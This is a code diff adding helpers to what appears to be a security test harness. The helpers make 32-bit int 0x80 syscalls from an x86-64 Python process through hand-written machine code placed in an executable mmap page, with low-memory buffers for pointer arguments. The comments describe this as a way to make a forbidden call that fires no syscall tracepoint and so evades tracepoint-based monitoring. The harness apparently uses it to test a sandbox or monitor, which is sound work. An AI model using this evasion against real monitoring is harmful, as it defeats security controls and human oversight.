@@ -143,3 +143,56 @@ class Ring:
         arr = (self.ctypes.c_int * len(fds))(*fds)
         r = self.libc.syscall(427, self.fd, 2, arr, len(fds))
         return r if r >= 0 else -self.ctypes.get_errno()
+
+
+# IA32=1: the attack makes its forbidden call as a 32-bit syscall (int 0x80), which any x86-64
+# process can, and which fires no syscalls:* tracepoint: what a fallback hanging on one misses.
+IA32 = os.environ.get("IA32") == "1"
+_ia32 = None
+
+
+def ia32_syscall(nr, a=0, b=0, c=0, d=0):
+    """the 32-bit syscall nr(a, b, c, d): its result (-errno on failure). Ends the attack as
+    unsupported where this is not x86-64 or the kernel has no ia32 emulation. Pointer arguments
+    must lie below 4 GiB (low_buffer)."""
+    global _ia32
+    if _ia32 is None:
+        import ctypes, mmap
+        if os.uname().machine != "x86_64":
+            unsupported(f"int 0x80 is x86-64's, not {os.uname().machine}'s")
+        # push rbx; mov eax,edi; mov ebx,esi; xchg ecx,edx; mov esi,r8d; int 0x80; pop rbx; ret
+        code = bytes.fromhex("53 89f8 89f3 87d1 4489c6 cd80 5b c3")
+        page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+        page[:len(code)] = code
+        fn = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_long] * 5)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
+        # a kernel without ia32 emulation answers int 0x80 with SIGSEGV: asked in a child first
+        pid = os.fork()
+        if pid == 0:
+            os._exit(0 if fn(20, 0, 0, 0, 0) == os.getpid() else 1)  # ia32 getpid
+        how = wait_child(pid)
+        if how != "exit 0":
+            unsupported(f"this kernel has no 32-bit syscalls (int 0x80 getpid: {how})")
+        _ia32 = (page, fn)
+    return _ia32[1](nr, a, b, c, d)
+
+
+def low_buffer(data):
+    """data in memory below 4 GiB (MAP_32BIT), where a 32-bit syscall's pointer can name it: its address"""
+    import ctypes, mmap
+    buf = mmap.mmap(-1, mmap.PAGESIZE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
+    buf[:len(data)] = data
+    addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
+    if addr >= 1 << 32:
+        unsupported(f"MAP_32BIT gave an address above 4 GiB ({addr:#x})")
+    _low.append(buf)
+    return addr
+
+
+_low = []
+
+
+def ia32_check(r, what):
+    """r from ia32_syscall: raises OSError for -errno, else returns it"""
+    if r < 0:
+        raise OSError(-r, f"{what} (32-bit): {errno.errorcode.get(-r, -r)}")
+    return r
